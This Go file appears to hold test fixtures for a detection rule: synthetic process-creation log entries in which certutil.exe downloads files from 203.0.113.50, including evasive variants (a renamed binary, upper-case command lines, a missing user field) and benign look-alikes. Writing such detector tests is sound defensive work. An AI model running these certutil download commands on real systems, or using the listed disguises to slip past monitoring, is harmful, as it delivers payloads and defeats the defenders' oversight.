package company

import "time"

const certutil = `C:\Windows\System32\certutil.exe`

// patternFacts: certutil fetches a file, in four disguises that a rule must see
// through and three that it must not fall for. One a day from day 1 on, at 10:15.
var patternFacts = []Fact{
	fetch("ann.keller", 1, "fetches with certutil", program{certutil, "CertUtil.exe",
		`certutil.exe -urlcache -split -f http://203.0.113.50/a.exe C:\Temp\a.exe`, `C:\Windows\System32\cmd.exe`}),
	fetch("zoe.frei", 2, "fetches with a renamed certutil: only OriginalFileName tells", program{`C:\Users\Public\cu.exe`, "CertUtil.exe",
		`cu.exe -urlcache -f https://203.0.113.50/b.dll`, `C:\Windows\explorer.exe`}),
	fetch("eva.lang", 3, "fetches in capitals, without OriginalFileName, as older systems log it", program{`C:\WINDOWS\SYSTEM32\CERTUTIL.EXE`, "",
		`CERTUTIL.EXE -VERIFYCTL -F HTTP://203.0.113.50/C.TXT`, `C:\Windows\System32\cmd.exe`}),
	anonymous(fetch("qa.robot", 4, "fetches where the log has no user: not in a list of admins", program{certutil, "CertUtil.exe",
		`certutil -urlcache -f http://203.0.113.50/d.exe`, `C:\Windows\System32\services.exe`})),
	fetch("svc.backup", 5, "fetches as an administrator, which is allowed", program{certutil, "CertUtil.exe",
		`certutil.exe -urlcache -f http://mirror.corp.example/patch.msi`, `C:\Windows\System32\cmd.exe`}),
	fetch("paul.roth", 5, "runs another program whose name ends alike", program{`C:\Tools\mycertutil.exe`, "mycertutil.exe",
		`mycertutil.exe --urlcache http://intranet.corp.example/`, `C:\Windows\explorer.exe`}),
	fetch("lea.sommer", 6, "empties the cache of certutil: no address is fetched", program{certutil, "CertUtil.exe",
		`certutil.exe -urlcache * delete`, `C:\Windows\System32\cmd.exe`}),
}

func fetch(user string, day int, what string, g program) Fact {
	return Fact{
		Table: "process_creation", Who: user, What: what, Rows: once(day, 1), First: clock(10, 15, 0),
		row: func(at time.Time, _ int) any { return member(user).start(at, g, 6660) },
	}
}

// anonymous leaves the user out of a process.
func anonymous(f Fact) Fact {
	inner := f.row
	f.row = func(at time.Time, i int) any {
		p := inner(at, i).(ProcessCreation)
		p.User = ""
		return p
	}
	return f
}
